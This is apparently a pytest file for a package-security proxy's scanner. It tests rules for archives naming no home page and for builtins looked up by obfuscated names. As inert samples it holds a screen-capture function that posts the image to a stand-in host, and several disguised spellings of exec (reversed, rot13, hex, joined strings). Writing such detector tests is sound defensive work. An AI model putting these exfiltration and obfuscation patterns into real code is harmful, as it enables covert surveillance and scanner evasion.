"""Rules 74: code evidence in an archive that says nowhere where it lives, and a builtin
looked up by a name the data gives.

- ``anonymous`` (3): the archive's metadata names no home page, repository or project URL
  (``Home-page``, ``Project-URL``, ``Download-URL``), and its code has findings. It weighs
  nothing alone and is not emitted without code evidence; beside evidence just short of the
  line it holds the file.
  A placeholder is no address: a forge's front page (``https://github.com``), ``example.com``
  and its subdomains, ``google.com``, PyPI's front page, a template's repository
  (``pypa/sampleproject``), a forge account a template says to replace
  (``github.com/yourusername/...``).
- ``getattr(builtins, kind.removeprefix("builtins."))`` (a deserializer rebuilding an
  exception by its recorded type) is a lookup by a runtime name, not a name spelled out to
  hide a call; a method of a literal (``"cexe"[::-1]``, ``"".join(...)``) or of a module
  (``codecs.decode(...)``) still is.

The sources are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.proxy.scan import scan_archive
from pipgate.proxy.scan.identity import names_a_home
from pipgate.proxy.scan.source import read_source
from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"

#: A screen grab sent out from a function of the package: ``spyware`` 8, short of the line.
SCREEN_GRAB = """\
import io, requests
from PIL import ImageGrab

def connect():
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")
    requests.post("https://img.example.com/u", files={"s": buffer.getvalue()})
"""


def _grab_wheel(source: str | None = None, metadata: str | None = None) -> bytes:
    files = {"demo/__init__.py": "from .client import connect\n", "demo/client.py": SCREEN_GRAB}
    return wheel(files, source=source, metadata=metadata)


def test_evidence_short_of_the_line_in_an_archive_naming_no_address_is_held() -> None:
    rules, held = judge(_grab_wheel(source=None), WHEEL)
    assert rules.get("spyware") == 8, rules
    assert rules.get("anonymous") == 3, rules
    assert held


def test_the_same_evidence_in_an_archive_naming_its_source_is_not() -> None:
    rules, held = judge(_grab_wheel(source="https://github.com/someone/demo"), WHEEL)
    assert rules.get("spyware") == 8, rules
    assert "anonymous" not in rules
    assert not held


@pytest.mark.parametrize(
    "header",
    [
        "Home-page: https://demo.readthedocs.io/\n",
        "Project-URL: Repository, https://codeberg.org/someone/demo\n",
        "Download-URL: https://files.demo-project.dev/releases/\n",
    ],
)
def test_any_address_the_metadata_names_counts(header: str) -> None:
    metadata = pkg_info(source=None) + header
    rules, held = judge(_grab_wheel(metadata=metadata), WHEEL)
    assert "anonymous" not in rules, header
    assert not held


@pytest.mark.parametrize(
    ("url", "real"),
    [
        ("https://github.com/psf/requests", True),
        ("https://gitlab.com/someone/demo", True),
        ("https://github.com/someone", True),  # an account's page: someone to ask
        ("https://demo.readthedocs.io/en/latest/", True),
        ("https://pypi.org/project/demo/", True),
        ("http://demo-project.dev", True),
        ("https://github.com", False),
        ("https://github.com/", False),
        ("https://www.github.com/", False),
        ("https://example.com", False),
        ("https://docs.example.org/demo", False),
        ("https://www.google.com/", False),
        ("https://pypi.org/", False),
        ("https://github.com/pypa/sampleproject", False),
        ("https://github.com/yourusername/demo", False),
        ("http://localhost:8000/", False),
        ("ftp://files.demo-project.dev/", False),
        ("UNKNOWN", False),
        ("", False),
        ("http://[::1", False),  # not a URL at all
    ],
)
def test_what_counts_as_an_address(url: str, real: bool) -> None:
    assert names_a_home(url) is real


def test_an_archive_naming_only_a_placeholder_is_anonymous() -> None:
    metadata = pkg_info(source="https://github.com/pypa/sampleproject")
    rules, held = judge(_grab_wheel(metadata=metadata), WHEEL)
    assert rules.get("anonymous") == 3, rules
    assert held
    report = scan_archive(_grab_wheel(metadata=metadata), WHEEL)
    (found,) = [f for f in report.findings if f.rule == "anonymous"]
    assert "sampleproject is a placeholder" in found.detail


def test_one_real_address_beside_placeholders_is_enough() -> None:
    metadata = (
        pkg_info(source="https://example.com")
        + "Project-URL: Source, https://codeberg.org/someone/demo\n"
    )
    rules, held = judge(_grab_wheel(metadata=metadata), WHEEL)
    assert "anonymous" not in rules
    assert not held


def test_a_home_page_of_unknown_is_no_address() -> None:
    metadata = pkg_info(source=None) + "Home-page: UNKNOWN\n"
    rules, held = judge(_grab_wheel(metadata=metadata), WHEEL)
    assert rules.get("anonymous") == 3, rules
    assert held


def test_an_archive_whose_code_shows_nothing_is_not_anonymous() -> None:
    rules, held = judge(wheel({"demo/__init__.py": "X = 1\n"}, source=None), WHEEL)
    assert rules == {}
    assert not held


def test_archive_level_findings_alone_are_no_code_evidence() -> None:
    # A 0.0.0 version with code: `placeholder` 2, about the archive, not its code.
    files = {"demo/__init__.py": "X = 1\n"}
    rules, held = judge(wheel(files, version="0.0.0", source=None), "demo-0.0.0-py3-none-any.whl")
    assert rules.get("placeholder") == 2, rules
    assert "anonymous" not in rules
    assert not held


def test_an_sdist_without_metadata_is_not_judged_anonymous() -> None:
    files = {"demo/__init__.py": "from .client import connect\n", "demo/client.py": SCREEN_GRAB}
    rules, held = judge(sdist(files), "demo-1.0.tar.gz")
    assert rules.get("spyware") == 8, rules
    assert "anonymous" not in rules
    assert not held


def test_the_finding_names_the_metadata_file() -> None:
    report = scan_archive(_grab_wheel(source=None), WHEEL)
    found = [f for f in report.findings if f.rule == "anonymous"]
    assert [(f.file, f.weight) for f in found] == [("demo-1.0.dist-info/METADATA", 3)]
    assert "no home page" in found[0].detail


@pytest.mark.parametrize(
    ("code", "hidden"),
    [
        # A deserializer's lookup of a recorded exception type: a runtime name.
        ('def load(t):\n    return getattr(builtins, t.removeprefix("builtins."))\n', 0),
        ('def load(d):\n    return getattr(builtins, d["kind"].strip().lower())\n', 0),
        ("x = getattr(builtins, sys.argv[1])\n", 0),
        # Spelled out in the file, whatever the pieces.
        ('x = getattr(builtins, "ex" + "ec")\n', 1),
        ('x = getattr(builtins, "".join(["ex", "ec"]))\n', 1),
        ('x = getattr(builtins, "cexe"[::-1])\n', 1),
        ('x = getattr(builtins, "CEXE".lower()[::-1])\n', 1),
        ('n = "CEXE"\nx = getattr(builtins, n.lower()[::-1])\n', 1),
        ('x = getattr(builtins, codecs.decode("rkrp", "rot13"))\n', 1),
        ('x = getattr(builtins, bytes.fromhex("65786563").decode())\n', 1),
    ],
)
def test_a_builtin_looked_up_by_a_runtime_name_is_no_spelled_out_call(
    code: str, hidden: int
) -> None:
    facts = read_source("import builtins, codecs, sys\n" + code)
    assert facts.builtins_getattr == hidden, code


def test_a_deserializer_rebuilding_builtin_exceptions_on_import_is_not_obfuscated() -> None:
    init = (
        "import builtins\n"
        "def rebuild(record):\n"
        '    kind = record["exception_type"]\n'
        '    if kind.startswith("builtins."):\n'
        '        return getattr(builtins, kind.removeprefix("builtins."))(record["message"])\n'
        "ERROR = rebuild({'exception_type': 'builtins.ValueError', 'message': 'x'})\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "obfuscated" not in rules, rules
    assert not held
